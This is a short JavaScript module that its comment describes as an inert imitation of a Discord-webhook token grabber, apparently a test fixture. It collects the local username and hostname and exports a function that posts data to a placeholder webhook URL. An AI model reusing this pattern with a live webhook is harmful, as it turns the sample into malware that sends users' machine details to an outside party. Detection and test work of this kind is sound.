/* eslint-disable */
// Inert imitation of a token grabber that reports to a Discord webhook. The webhook id and token
// are zero placeholders; nothing is sent because `send` is never called.
const https = require('https');
const os = require('os');

const WEBHOOK = 'https://discord.com/api/webhooks/000000000000000000/' + 'A'.repeat(68);

function send(content) {
  const body = JSON.stringify({ content });
  const req = https.request(WEBHOOK, { method: 'POST', headers: { 'content-type': 'application/json' } });
  req.end(body);
}

module.exports = { send, info: () => `${os.userInfo().username}@${os.hostname()}` };
